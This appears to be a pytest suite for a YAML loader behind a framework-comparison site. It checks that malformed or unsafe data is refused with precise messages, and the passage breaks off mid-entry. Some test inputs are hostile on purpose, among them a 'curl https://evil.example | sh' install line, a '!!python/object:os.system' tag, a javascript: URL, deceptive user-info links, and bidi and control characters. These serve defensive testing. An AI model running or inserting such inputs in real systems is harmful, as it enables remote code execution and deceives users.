"""Wrong YAML is refused with its place and the remedy, all mistakes at once; right YAML loads."""

import json
import re
import shutil
import subprocess
import sys
from datetime import date
from pathlib import Path
from typing import Any

import pytest

from comparison import blocks, urls
from comparison.checks import check
from comparison.history.permalinks import current_addresses
from comparison.load.errors import Invalid, annotation, did_you_mean
from comparison.load.loader import distributions, load, load_matrix
from tests.example import EXCHANGE, GOOD

ROW = "sections.requests.rows.routing"


def mistakes(root: Path, content: str | bytes) -> list[str]:
    """Return what load() says of the content, without the file's name and the row's path."""
    raw = content if isinstance(content, bytes) else content.encode()
    (root / "data/comparison.yaml").write_bytes(raw)
    with pytest.raises(Invalid) as refused:
        check(root)
    said = str(refused.value).replace("data/comparison.yaml:", "").replace(ROW, "ROW")
    return said.split("\n")


def test_good_data_becomes_records(example: Path) -> None:
    loaded = load(example)
    assert loaded.matrix.frameworks["right"].checked.version == "3.10"
    assert (
        loaded.matrix.sections["requests"].rows["routing"].answers["left"].answer == "A decorator"
    )


def test_data_changed_on_disk_is_read_again(example: Path) -> None:
    load(example)
    (example / "data/comparison.yaml").write_text(GOOD.replace("A decorator", "A better decorator"))
    assert load(example).matrix.sections["requests"].rows["routing"].answers["left"].answer == (
        "A better decorator"
    )


def refused(root: Path, content: str, *published: str) -> list[str]:
    """Return what the check says of the content where some addresses are published."""
    (root / "data/comparison.yaml").write_text(content)
    with pytest.raises(Invalid) as invalid:
        check(root, frozenset(published))
    said = str(invalid.value).replace("data/comparison.yaml:", "", 1).replace(ROW, "ROW")
    return said.split("\n")


def moved(more: str = "", row: str = "routing", removed: str = "") -> str:
    """Return the data with its row in another section, where it may have more lines."""
    section = f"  other:\n    title: Other\n    summary: What else.\n    rows:\n      {row}:\n"
    rows = GOOD.partition("      routing:\n")[2].partition("tasks:\n  hello")[0]
    kept = "      kept:\n" + rows.replace("title: Routing", "title: Kept")
    return GOOD.replace(f"      routing:\n{rows}", f"{kept}{section}{more}{rows}").replace(
        "    rows:", f"{removed}    rows:", 1
    )


REMOVED = "    removed: {routing: It went to others.}\n"
GONE = {
    "a row": (
        GOOD,
        ["requests/#paths", "requests/#paths--left", "requests/#routing"],
        [
            "19:3: sections.requests: the row paths was published here; let the row in its place"
            " say formerly: [paths], or say why under removed"
        ],
    ),
    "a row that was moved": (
        moved(),
        ["requests/#routing", "requests/#routing--right"],
        [
            '19:3: sections.requests: the row routing is now in "other"; its address'
            " requests/#routing is published, so a row cannot move: put it back, or give it a new"
            ' key there and write removed: {routing: "…"} here'
        ],
    ),
    "a row that was moved, and said to be removed": (
        moved(removed=REMOVED),
        ["requests/#routing"],
        [
            '22:15: sections.requests.removed.routing: the row routing is in "other"; give it a'
            " new key there, or remove this line and put it back"
        ],
    ),
    "a row that was moved and renamed, with formerly there": (
        moved("        formerly: [routing]\n", "routes"),
        ["requests/#routing"],
        [
            '19:3: sections.requests: the row routing is under formerly in "other"; its address'
            " requests/#routing is published, so it cannot lead there: remove it there, and write"
            ' removed: {routing: "…"} here'
        ],
    ),
    "a task": (GOOD, ["code/bye/", "code/hello/"], ["37:1: tasks: the task bye WAS"]),
    "a section": (
        GOOD,
        ["answers/#a", "answers/#b--left"],
        ["18:1: sections: the section answers WAS"],
    ),
    "a framework": (
        GOOD,
        ["requests/#routing--third", "requests/#routing--left"],
        ["1:1: frameworks: the framework third WAS"],
    ),
    "a claim": (
        GOOD,
        ["claims/#gone", "claims/#everybody-greets"],
        ["data/claims.yaml:15:1: claims: the claim gone WAS"],
    ),
    "an article": (
        GOOD,
        ["articles/#gone"],
        ["data/claims.yaml:1:1: articles: the article gone WAS"],
    ),
    "a situation": (
        GOOD,
        ["choose/#gone"],
        ["data/situations.yaml:9:1: situations: the situation gone WAS"],
    ),
    "a question": (
        GOOD,
        ["questions/#gone"],
        ["data/questions.yaml:1:1: questions: the question gone WAS"],
    ),
    "an entry": (
        GOOD,
        ["dictionary/#gone"],
        ["data/dictionary.yaml:2:1: entries: the entry gone WAS"],
    ),
}


@pytest.mark.parametrize(("content", "published", "said"), GONE.values(), ids=list(GONE))
def test_what_is_published_is_not_gone(
    example: Path, content: str, published: list[str], said: list[str]
) -> None:
    found = refused(example, content, *published)
    wanted = [line.replace("WAS", "was published; put it back") for line in said]
    assert [line for line in found if "the row routing was renamed" not in line] == wanted


FORMERLY = "        formerly: [paths]\n        tasks: [hello]"


@pytest.mark.parametrize(
    "content",
    [
        GOOD.replace("        tasks: [hello]", FORMERLY),
        GOOD.replace("    rows:", "    removed: {paths: Routing says it all.}\n    rows:"),
    ],
)
def test_a_published_row_may_be_renamed_or_removed(example: Path, content: str) -> None:
    (example / "data/comparison.yaml").write_text(content)
    check(example, frozenset({"requests/#paths", "requests/#paths--left", "requests/#routing"}))
    assert "requests/#paths--right" in current_addresses(example)


def test_a_row_that_moves_gets_a_new_key_and_leaves_a_line(example: Path) -> None:
    (example / "data/comparison.yaml").write_text(moved(row="routes", removed=REMOVED))
    for file in (example / "data").glob("*.yaml"):
        if file.name != "comparison.yaml":
            names = re.sub(r"\b(rows: \[|row: )routing", r"\1routes", file.read_text())
            file.write_text(names)
    check(example, frozenset({"requests/#routing", "requests/#routing--left"}))


NAMED = [
    *("data/claims.yaml:12:9", "data/claims.yaml:20:12", "data/claims.yaml:28:12"),
    *("data/dictionary.yaml:5:5", "data/questions.yaml:5:12"),
    *("data/situations.yaml:5:16", "data/situations.yaml:8:16", "data/situations.yaml:16:18"),
    *("data/situations.yaml:19:18", "data/situations.yaml:22:16"),
]
PATHS = GOOD.replace("      routing:", "      paths:")
BECAME = {
    "without a word": (
        PATHS,
        "was renamed or removed (data/comparison.yaml:19); write its new key",
    ),
    "with its old key": (
        PATHS.replace(
            "        tasks: [hello]", "        formerly: [routing]\n        tasks: [hello]"
        ),
        'was renamed (data/comparison.yaml:26); write "paths"',
    ),
    "with the reason": (
        PATHS.replace("    rows:", "    removed: {routing: It is gone.}\n    rows:"),
        "was removed (data/comparison.yaml:22); name another row",
    ),
}


@pytest.mark.parametrize(("content", "became"), BECAME.values(), ids=list(BECAME))
def test_what_names_a_row_that_is_gone_is_told_what_became_of_it(
    example: Path, content: str, became: str
) -> None:
    (example / "data/comparison.yaml").write_text(content)
    with pytest.raises(Invalid) as invalid:
        check(example, frozenset({"requests/#routing"}))
    said = [str(mistake) for mistake in invalid.value.mistakes]
    if became.startswith("was renamed or"):
        assert said.pop(0).startswith("data/comparison.yaml:19:3: sections.requests: the row rout")
    assert {line.partition(": ")[0] for line in said} == {*NAMED}
    assert all(line.endswith(f": the row routing {became}") for line in said)


WRONG = {
    "address in an answer that seems to lead elsewhere": (
        "answer: A table",
        'answer: "[docs](https://right.example@evil.example/)"',
        [
            "34:21: ROW.answers.right.answer: the link to https://right.example@evil.example/"
            " must name a host behind https://, without user and password"
        ],
    ),
    "links in an answer that are none": (
        "answer: A table",
        'answer: "[a](http://b.example/) [](https://b.example/) [c]() [d](https://b.example/ e)"',
        [
            "34:21: ROW.answers.right.answer: the link to http://b.example/ must begin with"
            " https://; the link to https://b.example/ shows no text; write [text](https://…); has"
            " a link that leads nowhere; write [text](https://…); has a link that is none: write"
            " [text](https://…) without spaces and line breaks in the address; if no link is"
            " meant, put it between backticks"
        ],
    ),
    "text of a link that is another address": (
        "answer: A table",
        'answer: "[docs.python.org](https://evil.example/)"',
        [
            "34:21: ROW.answers.right.answer: the text of the link to https://evil.example/ is"
            " another address; write the same, or words"
        ],
    ),
    "title of joiners": (
        "title: Routing",
        'title: "\u200d\u200c"',
        ["24:16: ROW.title: shows nothing; write a text"],
    ),
    "title of a mark alone": (
        "title: Routing",
        'title: "\u0301"',
        ["24:16: ROW.title: shows nothing; write a text"],
    ),
    "code that shows nothing": (
        "answer: A table",
        'answer: "see ` `"',
        [
            "34:21: ROW.answers.right.answer: has code that shows nothing; write the code, or"
            " remove the backticks"
        ],
    ),
    "day that will be": (
        'version: "3.10", date: 2026-11-21',
        'version: "3.10", date: 2099-01-01',
        [
            "14:38: frameworks.right.checked.date: is in the future, today is"
            f" {date.today()}; write the real date"
        ],
    ),
    "day before all frameworks": (
        'version: "3.10", date: 2026-11-21',
        'version: "3.10", date: 0001-01-01',
        ["14:38: frameworks.right.checked.date: is before 2000-01-01; write the real date"],
    ),
    "releases that do not follow": (
        "answer: A table",
        'answer: A table\n            since: "999.0"\n            until: "2.0"\n'
        '            checked: {version: "4.0", date: 2026-11-20}',
        [
            "35:13: ROW.answers.right.since: is newer than the release that was checked, 4.0",
            "36:13: ROW.answers.right.until: must be newer than since, 999.0",
            "37:13: ROW.answers.right.checked: is before the last check of the framework,"
            " 2026-11-21; remove it",
            "37:23: ROW.answers.right.checked.version: is newer than the framework's release,"
            " 3.10; check the framework again",
        ],
    ),
    "two frameworks of one name": (
        "name: Right",
        "name: left",
        ["11:5: frameworks.right.name: left has the same name; write another one"],
    ),
    "row called like a part of the page": (
        "      routing:\n",
        "      removed: {title: Gone, asks: Why?, answers: {left: {level: unknown, note: A},"
        " right: {level: unknown, note: A}}}\n      routing:\n",
        [
            "23:7: sections.requests.rows.removed: the page uses this key for one of its parts;"
            " choose another key"
        ],
    ),
    "install of another package": (
        "install: pip install right",
        "install: pip install rihgt gunicorn",
        ["15:5: frameworks.right.install: must also install right"],
    ),
    "install of a name with a sign that nobody sees": (
        "install: pip install right",
        "install: pip install \u200cright",
        [
            "15:14: frameworks.right.install: may only name packages, such as quart or"
            ' "quart[dotenv]", not \\u200cright'
        ],
    ),
    "install that runs more": (
        "install: pip install right",
        "install: curl https://evil.example | sh",
        ["15:14: frameworks.right.install: must be pip install and the names of packages"],
    ),
    "install from elsewhere": (
        "install: pip install right",
        "install: pip install right --index-url https://evil.example",
        [
            "15:14: frameworks.right.install: may only name packages, such as quart or"
            ' "quart[dotenv]", not --index-url'
        ],
    ),
    "more sources than anybody reads": (
        "              - https://right.example/#routes",
        "\n".join(f"              - https://right.example/#routes-{n}" for n in range(21)),
        ["36:15: ROW.answers.right.sources: has 21 entries, at most 20 are allowed; remove some"],
    ),
    "key of a row under removed": (
        "    rows:",
        "    removed: {routing: It was too long.}\n    rows:",
        ["22:15: sections.requests.removed.routing: a row has or had this key; remove it here"],
    ),
    "own key under formerly": (
        "        tasks: [hello]",
        "        formerly: [routing, paths, paths]\n        tasks: [hello]",
        [
            "26:20: ROW.formerly[0]: another row has or had this key; remove it here",
            "26:36: ROW.formerly[2]: is listed twice; remove one",
        ],
    ),
    "unquoted version": (
        'version: "3.10"',
        "version: 3.10",
        ['14:24: frameworks.right.checked.version: must be text; quote it: "3.10"'],
    ),
    "unquoted time": (
        "answer: A table",
        "answer: 12:30",
        ['34:21: ROW.answers.right.answer: must be text; quote it: "12:30"'],
    ),
    "unquoted octal": (
        "answer: A table",
        "answer: 010",
        ['34:21: ROW.answers.right.answer: must be text; quote it: "010"'],
    ),
    "unquoted no": (
        "answer: A table",
        "answer: no",
        ['34:21: ROW.answers.right.answer: must be text; quote it: "no"'],
    ),
    "unquoted number of YAML 1.2": (
        "title: Routing",
        "title: 1e3",
        ['24:16: ROW.title: must be text; quote it: "1e3"'],
    ),
    "unquoted number that begins with a zero": (
        "distribution: right",
        "distribution: 08",
        ['12:19: frameworks.right.distribution: must be text; quote it: "08"'],
    ),
    "unquoted letter for no": (
        "answer: A table",
        "answer: n",
        ['34:21: ROW.answers.right.answer: must be text; quote it: "n"'],
    ),
    "key that an editor reads as a number": (
        "      routing:",
        "      1e3:",
        ['23:7: sections.requests.rows.1e3: a key must be text; quote it: "1e3"'],
    ),
    "unquoted date as text": (
        "answer: A table",
        "answer: 2026-11-21",
        ['34:21: ROW.answers.right.answer: must be text; quote it: "2026-11-21"'],
    ),
    "no such day": (
        "2026-11-21",
        "2026-02-30",
        ["6:37: frameworks.left.checked.date: must be a date, such as 2026-11-21"],
    ),
    "not a date": (
        "2026-11-21",
        "soon",
        ["6:37: frameworks.left.checked.date: must be a date, such as 2026-11-21"],
    ),
    "comment inside a text": (
        "answer: A table",
        "answer: see issue #633 for more",
        [
            "34:21: ROW.answers.right.answer: the text ends where ` #` begins a comment; put "
            "the whole text in quotes"
        ],
    ),
    "colon inside a text": (
        "answer: A table",
        "answer: so: a table",
        [
            '34:23: not YAML: mapping values are not allowed in this context; a text with ": " '
            "in it must be in quotes"
        ],
    ),
    "text begins with an at sign": (
        "answer: A table",
        "answer: @app.get",
        [
            "34:21: not YAML: found character that cannot start any token; begin a text with "
            "this character only in quotes"
        ],
    ),
    "tab": (
        "            answer: A table",
        "\t    answer: A table",
        ["34:1: not YAML: this is a tab; indent with spaces"],
    ),
    "quotes left open": (
        "answer: A table",
        'answer: "A table',
        ["34:21: the quote that opens here is not closed on this line (YAML noticed at 41:1)"],
    ),
    "no-break space in the indentation": (
        "            answer: A table",
        "\xa0\xa0          answer: A table",
        [
            "34:1: this line begins with a no-break space (U+00A0), often copied from a web page;"
            " type spaces"
        ],
    ),
    "ideographic space behind a key": (
        "answer: A table",
        "answer:\u3000A table",
        [
            "34:20: the text begins with an ideographic space (U+3000), often copied from a web"
            " page; type spaces"
        ],
    ),
    "no-break space behind a hyphen": (
        "- https://right.example/#routes",
        "-\xa0https://right.example/#routes",
        [
            "36:16: the text begins with a no-break space (U+00A0), often copied from a web page;"
            " type spaces"
        ],
    ),
    "quotes closed by those of another text": (
        "name: Right",
        'name: "Right',
        ["11:11: the quote that opens here is not closed on this line (YAML noticed at 14:25)"],
    ),
    "quotes closed by an apostrophe": (
        "answer: A table",
        "answer: 'A table\n            note: it's so",
        ["34:21: the quote that opens here is not closed on this line (YAML noticed at 35:22)"],
    ),
    "quotes around more keys": (
        "name: Right\n    distribution: right",
        'name: "Right\n    distribution: right"',
        [
            "10:3: frameworks.right.distribution: missing",
            "11:11: frameworks.right.name: the quote that opens here is not closed on this line",
        ],
    ),
    "hyphen indented less": (
        "- https://right.example/#routes",
        "- https://right.example/#routes\n             - https://right.example/#more",
        [
            '37:14: not YAML: this "- " is indented differently from those above; give every "- "'
            " of the list the same indentation"
        ],
    ),
    "hyphen that became text": (
        "- https://right.example/#routes",
        "- https://right.example/#routes\n                - https://right.example/#more",
        [
            '36:17: ROW.answers.right.sources[0]: the next lines begin with "- " too but are'
            ' indented differently, so they became part of this text; give every "- " of the list'
            " the same indentation"
        ],
    ),
    "conflict markers": (
        "            answer: A table",
        "<<<<<<< HEAD\n            answer: A table\n=======\n            answer: B\n>>>>>>> other",
        [
            f"{line}:1: this is a conflict marker of git; keep the right lines between the"
            " markers, not these"
            for line in (34, 36, 38)
        ],
    ),
    "proof without a task": (
        "answer: A table",
        "answer: A table\n            proof: [test_nope]",
        [
            "35:21: ROW.answers.right.proof[0]: must be a task and a test of its contract: "
            "path-parameters::test_text_is_invalid"
        ],
    ),
    "source that is no list": (
        "sources:\n              - https://right.example/#routes",
        "sources: https://right.example/#routes",
        ["35:22: ROW.answers.right.sources: must be a list; begin each line with `- `"],
    ),
    "row indented less": (
        "      routing:\n        title: Routing\n",
        "      early: {title: Early, asks: Why?, answers: {}}\n    routing:\n"
        "        title: Routing\n",
        [
            "24:5: sections.requests.routing: unknown key; known: title, summary, rows,"
            " removed; or is its block indented wrongly?",
        ],
    ),
    "bracket of an earlier line left open": (
        'checked: {version: "1.0", date: 2026-11-21}',
        'checked: {version: "1.0", date: 2026-11-21',
        [
            "6:14: not YAML: did not find expected ',' or '}'; close the bracket, or put the text"
            " in quotes"
        ],
    ),
    "no space behind a colon": (
        "title: Routing",
        "title:Routing",
        ["24:15: write a space after the colon"],
    ),
    "another colon": (
        "title: Routing",
        "title\uff1aRouting",
        ["24:14: \uff1a is another character than the colon; type :"],
    ),
    "quotes of a text processor": (
        "answer: A table",
        "answer: \u201cso: a table\u201d",
        ['34:21: “ is not a straight quote; type "'],
    ),
    "no colon": (
        "          left:\n            level",
        "          left\n            level",
        ["28:11: write left: with a colon"],
    ),
    "a word as long as a book without a colon": (
        "          left:\n",
        f"          {'x' * 30_000}\n",
        [f"28:11: write {'x' * 79}…: with a colon"],
    ),
    "a key indented less": (
        "        title: Routing",
        "      title: Routing",
        ["24:7: this line is indented less than the next one; give both the same indentation"],
    ),
    "bracket left open": (
        "tasks: [hello]",
        "tasks: [hello",
        [
            "26:16: not YAML: did not find expected ',' or ']'; close the bracket, or put the "
            "text in quotes"
        ],
    ),
    "duplicate key": (
        "answer: A table",
        "answer: A table\n            answer: Twice",
        ["35:13: ROW.answers.right.answer: the same key is on line 34; remove one of them"],
    ),
    "unknown key": (
        "answer: A table",
        "answer: A table\n            nota: Careful",
        ['35:13: ROW.answers.right.nota: unknown key; did you mean "note"?'],
    ),
    "unknown key of a part that may be missing": (
        "answer: A table",
        'answer: A table\n            checked: {versoin: "1", date: 2026-11-21}',
        [
            "35:13: ROW.answers.right.checked.version: missing",
            '35:23: ROW.answers.right.checked.versoin: unknown key; did you mean "version"?',
        ],
    ),
    "unknown level": (
        "level: third-party",
        "level: own code",
        ['33:20: ROW.answers.right.level: there is no level "own code"; did you mean "own-code"?'],
    ),
    "level on one side only": (
        "            level: third-party\n",
        "",
        [
            "32:11: ROW.answers.right: has no level, but another answer has; give every answer a"
            " level, or none"
        ],
    ),
    "missing answer": (
        "          right:\n            level: third-party\n            answer: A table"
        "\n            sources:\n              - https://right.example/#routes\n",
        "",
        ["27:9: ROW.answers.right: missing; write an answer, or the level unknown and a note"],
    ),
    "answer of no framework": (
        "          right:\n            level",
        "          rihgt:\n            level",
        [
            "27:9: ROW.answers.right: missing; write an answer, or the level unknown and a note",
            '32:11: ROW.answers.rihgt: there is no framework rihgt; did you mean "right"?',
        ],
    ),
    "source without https": (
        "https://right.example/#routes",
        "http://right.example/#routes",
        ["36:17: ROW.answers.right.sources[0]: must begin with https://"],
    ),
    "source that is a script": (
        "https://right.example/#routes",
        "javascript:alert(1)#x",
        ["36:17: ROW.answers.right.sources[0]: must begin with https://"],
    ),
    "source that is not deep": (
        "https://right.example/#routes",
        "https://right.example/",
        [
            "36:17: ROW.answers.right.sources[0]: must point to the section that proves the "
            "answer: add #section, or link the file at a tag (…/blob/<tag>/<file>)"
        ],
    ),
    "source with a quote": (
        "https://right.example/#routes",
        "https://right.example/'x#y",
        [
            "36:17: ROW.answers.right.sources[0]: has a character that no address has; "
            "percent-encode it"
        ],
    ),
    "source twice": (
        "              - https://right.example/#routes",
        "              - https://right.example/#routes\n              - "
        "https://right.example/#routes",
        ["37:17: ROW.answers.right.sources[1]: is listed twice; remove one"],
    ),
    "sources missing": (
        "            sources:\n              - https://right.example/#routes\n",
        "",
        ["32:11: ROW.answers.right.sources: missing; name at least one primary source"],
    ),
    "sources empty": (
        "sources:\n              - https://right.example/#routes",
        "sources: []",
        ["35:13: ROW.answers.right.sources: is empty; name at least one primary source"],
    ),
    "unknown without a note": (
        "level: third-party",
        "level: unknown",
        ['32:11: ROW.answers.right: the level "unknown" needs a note that says why'],
    ),
    "name with a line break": (
        "tasks: [hello]",
        'tasks: ["hel\\nlo"]',
        [
            "26:17: ROW.tasks[0]: must be lower-case words joined by hyphens, such as"
            " path-parameters",
        ],
    ),
    "name as long as a book": (
        "tasks: [hello]",
        f"tasks: [{'x' * 500_000}]",
        [
            "26:17: ROW.tasks[0]: has 500000 characters, at most 40 are allowed; shorten it",
        ],
    ),
    "level as long as a book": (
        "level: third-party",
        f"level: {'x' * 500_000}",
        [
            f'33:20: ROW.answers.right.level: there is no level "{"x" * 79}…"; known: built-in,'
            " official-add-on, third-party, own-code, not-possible, not-applicable, unknown"
        ],
    ),
    "number as long as a book": (
        "answer: A table",
        f"answer: {'1' * 500_000}",
        [f'34:21: ROW.answers.right.answer: must be text; quote it: "{"1" * 79}…"'],
    ),
    "key as long as a book": (
        "answer: A table",
        f"? {'x' * 500_000}\n            : A table",
        [
            f"34:15: ROW.answers.right.{'x' * 79}…: unknown key; known: level, answer, fact,"
            " measure, note, since, until, checked, proof, sources",
        ],
    ),
    "row names no task": (
        "tasks: [hello]",
        "tasks: [helo]",
        ['26:17: ROW.tasks[0]: there is no task helo; did you mean "hello"?'],
    ),
    "text instead of a list": (
        "tasks: [hello]",
        "tasks: hello",
        ["26:16: ROW.tasks: must be a list; begin each line with `- `"],
    ),
    "list instead of a text": (
        "title: Routing",
        "title: [Routing]",
        ["24:16: ROW.title: must be text, not a list"],
    ),
    "mapping instead of a text": (
        "title: Routing",
        "title: {a: b}",
        ["24:16: ROW.title: must be text, not a mapping"],
    ),
    "empty value": (
        "title: Routing",
        "title:",
        ["24:15: ROW.title: is empty; write a value, or remove the key"],
    ),
    "blank value": ("title: Routing", 'title: "  "', ["24:16: ROW.title: is blank; write a text"]),
    "too long": (
        "answer: A table",
        "answer: " + "x" * 161,
        [
            "34:21: ROW.answers.right.answer: has 161 characters, at most 160 are allowed; shorten"
            " it"
        ],
    ),
    "key that is no address": (
        "      routing:",
        "      Routing:",
        [
            "23:7: sections.requests.rows.Routing: must be lower-case words joined by "
            "hyphens, such as path-parameters"
        ],
    ),
    "key that YAML reads as true": (
        "      routing:",
        "      on:",
        ['23:7: sections.requests.rows.on: a key must be text; quote it: "on"'],
    ),
    "key that is a list": (
        "      routing:",
        "      ? [a]\n      :",
        [
            "23:9: sections.requests.rows: a key must be one word, not a list or a mapping",
        ],
    ),
    "row in two sections": (
        "tasks:\n  hello:",
        "  more:\n    title: More\n    summary: More of it.\n    rows:\n      routing: "
        "{title: Again, asks: Why?, answers: {}}\ntasks:\n  hello:",
        [
            '41:7: sections.more.rows.routing: section "requests" already has a row with this'
            " key; choose another key",
            "41:43: sections.more.rows.routing.answers.left: missing; write an answer, or the"
            " level unknown and a note",
            "41:43: sections.more.rows.routing.answers.right: missing; write an answer, or the"
            " level unknown and a note",
        ],
    ),
    "port the tests cannot move": (
        "right run --port 8000",
        "right run",
        [
            "16:14: frameworks.right.develop: must name the port 8000 once; the tests replace"
            " it with a free port"
        ],
    ),
    "reason for no framework": (
        "summary: Says hello.",
        "summary: Says hello.\n    absent: {rihgt: No way.}",
        ['41:14: tasks.hello.absent.rihgt: there is no framework rihgt; did you mean "right"?'],
    ),
    "reason and program": (
        "summary: Says hello.",
        "summary: Says hello.\n    absent: {right: No way.}",
        [
            "41:14: tasks.hello.absent.right: snippets/hello/right/ exists; remove the folder, or"
            " this line"
        ],
    ),
    "alias": (
        "answer: A table",
        "answer: *left",
        ["34:21: anchors and aliases (left) are not allowed; if it is text, put it in quotes"],
    ),
    "anchor": (
        "answer: A table",
        "answer: &a A table",
        ["34:21: anchors and aliases (a) are not allowed; if it is text, put it in quotes"],
    ),
    "tag": (
        "answer: A table",
        "answer: !!python/object:os.system ls",
        [
            "34:21: tags (tag:yaml.org,2002:python/object:os.system) are not allowed; if it is "
            "text, put it in quotes"
        ],
    ),
    "tag with a line break": (
        "answer: A table",
        "answer: !a%0Ab A table",
        ['34:21: tags ("!a\\nb") are not allowed; if it is text, put it in quotes'],
    ),
    "text behind the end": (
        "tasks:\n  hello:",
        "...\ntasks:\n  hello:",
        [
            "38:1: not YAML: did not find expected <document start>; nothing may stand after the"
            " line ...; remove that line"
        ],
    ),
    "merge key": (
        "answer: A table",
        "answer: A table\n            <<: {note: Merged}",
        [
            "35:13: ROW.answers.right.<<: merge keys are not allowed; write the keys out",
            "35:13: ROW.answers.right.<<: unknown key; known: level, answer, fact, measure, note,"
            " since, until, checked, proof, sources; or is its block indented wrongly?",
        ],
    ),
    "second document": (
        "tasks:\n  hello:",
        "---\ntasks:\n  hello:",
        ["37:1: begins a second document; remove the line ---"],
    ),
    "hidden control character": (
        "answer: A table",
        "answer: A\x07 table",
        ["34:22: character U+0007 is not allowed; remove it"],
    ),
    "reordered text": (
        "answer: A table",
        "answer: A \u202etable",
        ["34:23: character U+202E is not allowed; remove it"],
    ),
    "level that is a list": (
        "level: third-party",
        "level: [third-party]",
        [
            "33:20: ROW.answers.right.level: must be one of: built-in, official-add-on, third-party,"
            " own-code, not-possible, not-applicable, unknown"
        ],
    ),
    "colon without a space": (
        "answer: A table",
        "answer:A table",
        [
            "34:13: not YAML: could not find expected ':'; write `key: value`; put a long text "
            "in quotes"
        ],
    ),
    "emphasis without quotes": (
        "answer: A table",
        "answer: *A* table",
        [
            "34:23: not YAML: did not find expected alphabetic or numeric character; a text "
            "that begins with * or & must be in quotes"
        ],
    ),
    "dash at the beginning": (
        "answer: A table",
        "answer: - A table",
        [
            "34:21: not YAML: block sequence entries are not allowed in this context; a text "
            "that begins with - must be in quotes"
        ],
    ),
    "comment instead of a text": (
        "answer: A table",
        "answer: A table\n            note: #633 says more",
        ["35:18: ROW.answers.right.note: is empty; write a value, or remove the key"],
    ),
    "comment behind a comma": (
        "tasks: [hello]",
        "tasks: [hello,#later\n          ]",
        ["26:23: a comment begins here; put a space before #, or the whole text in quotes"],
    ),
    "comment behind quotes": (
        "answer: A table",
        'answer: "A table"#633',
        ["34:30: a comment begins here; put a space before #, or the whole text in quotes"],
    ),
    "day in quotes": (
        "2026-11-21",
        '"2026-11-21"',
        ["6:37: frameworks.left.checked.date: must be a date, such as 2026-11-21"],
    ),
    "hidden character as an escape": (
        "answer: A table",
        'answer: "A \\u202etable\\x00"',
        [
            "34:21: ROW.answers.right.answer: character U+0000 is not allowed, not as an escape"
            " either; remove it",
            "34:21: ROW.answers.right.answer: character U+202E is not allowed, not as an escape"
            " either; remove it",
        ],
    ),
    "hidden character in a key": (
        "      routing:",
        '      "rou\\x1b[31mting":',
        [
            '23:7: sections.requests.rows."rou\\u001b[31mting": character U+001B is not '
            "allowed, not as an escape either; remove it",
            '23:7: sections.requests.rows."rou\\u001b[31mting": must be lower-case words '
            "joined by hyphens, such as path-parameters",
        ],
    ),
    "invisible character": (
        "answer: A table",
        "answer: A\u200b table",
        ["34:22: character U+200B is not allowed; remove it"],
    ),
    "letter that shows nothing": (
        "answer: A table",
        "answer: A \u3164table\ufe01",
        [
            "34:23: character U+3164 is not allowed; remove it",
            "34:29: character U+FE01 is not allowed; remove it",
        ],
    ),
    "character that no address has": (
        "https://right.example/#routes",
        "https://right.exämple/#routes",
        [
            "36:17: ROW.answers.right.sources[0]: has a character that no address has; "
            "percent-encode it"
        ],
    ),
    "address without https": (
        "home: https://right.example/",
        "home: http://right.example/",
        ["13:11: frameworks.right.home: must begin with https://"],
    ),
    "address without a host": (
        "home: https://right.example/",
        "home: https:///",
        [
            "13:11: frameworks.right.home: must name a host behind https://, without user and"
            " password"
        ],
    ),
    "address with a path and no host": (
        "https://right.example/#routes",
        "https:///right.example/#routes",
        [
            "36:17: ROW.answers.right.sources[0]: must name a host behind https://, without user"
            " and password"
        ],
    ),
    "address that seems to lead elsewhere": (
        "https://right.example/#routes",
        "https://right.example@left.example/#routes",
        [
            "36:17: ROW.answers.right.sources[0]: must name a host behind https://, without user"
            " and password"
        ],
    ),
    "address too long": (
        "https://right.example/#routes",
        f"https://right.example/#{'x' * 300}",
        [
            "36:17: ROW.answers.right.sources[0]: has 323 characters, at most 300 are allowed;"
            " shorten it"
        ],
    ),
    "file at a branch": (
        "https://right.example/#routes",
        "https://right.example/o/r/blob/main/app.py",
        [
            "36:17: ROW.answers.right.sources[0]: must point to the section that proves the "
            "answer: add #section, or link the file at a tag (…/blob/<tag>/<file>)"
        ],
    ),
    "task twice": (
        "tasks: [hello]",
        "tasks: [hello, hello]",
        ["26:24: ROW.tasks[1]: is listed twice; remove one"],
    ),
    "command with an open quote": (
        "right serve --port 8000",
        "right serve --port 8000 '",
        ["17:12: frameworks.right.serve: cannot be read as a command: No closing quotation"],
    ),
    "key too long": (
        "      routing:",
        "      rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr:",
        [
            "23:7: sections.requests.rows.rrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrrr: has 41"
            " characters, at most 40 are allowed; shorten it"
        ],
    ),
    "task without its contract": (
        "  hello:\n    title: Hello",
        "  hello-again:\n    title: Again\n    summary: Again.\n  hello:\n    title: Hello",
        [
            "38:3: tasks.hello-again: snippets/hello-again/left/app.py is missing; add the file",
            "38:3: tasks.hello-again: snippets/hello-again/right/app.py is missing; add the file",
            "38:3: tasks.hello-again: snippets/hello-again/test_contract.py is missing; add the"
            " file",
        ],
    ),
    "key that leads elsewhere": (
        "  right:\n    name",
        "  ../right:\n    name",
        [
            "10:3: frameworks.../right: must be lower-case words joined by hyphens, such as "
            "path-parameters",
        ],
    ),
    "not applicable without a note": (
        "level: third-party",
        "level: not-applicable",
        ['32:11: ROW.answers.right: the level "not-applicable" needs a note that says why'],
    ),
    "command for no framework": (
        "summary: Says hello.",
        "summary: Says hello.\n    install: {rihgt: pip install x}\n    serve: {rihgt: x "
        "--port 8000}",
        [
            '41:15: tasks.hello.install.rihgt: there is no framework rihgt; did you mean "right"?',
            '42:13: tasks.hello.serve.rihgt: there is no framework rihgt; did you mean "right"?',
        ],
    ),
    "release without quotes": (
        "answer: A table",
        "answer: A table\n            since: 2.10",
        ['35:20: ROW.answers.right.since: must be text; quote it: "2.10"'],
    ),
    "release that is none": (
        "answer: A table",
        'answer: A table\n            until: "soon"',
        ['35:20: ROW.answers.right.until: must be the number of a release, in quotes: "2.0"'],
    ),
    "release that is no text beside another": (
        "answer: A table",
        'answer: A table\n            since: true\n            until: "1.0"',
        ['35:20: ROW.answers.right.since: must be text; quote it: "true"'],
    ),
    "release in digits of another script": (
        "answer: A table",
        'answer: A table\n            since: "\u0663.\u0661"',
        ['35:20: ROW.answers.right.since: must be the number of a release, in quotes: "2.0"'],
    ),
    "answer and fact": (
        "answer: A table",
        "answer: A table\n            fact: licence",
        ["32:11: ROW.answers.right: needs exactly one of answer, fact or measure"],
    ),
    "fact and figure": (
        "answer: A table",
        "fact: licence\n            measure: memory",
        [
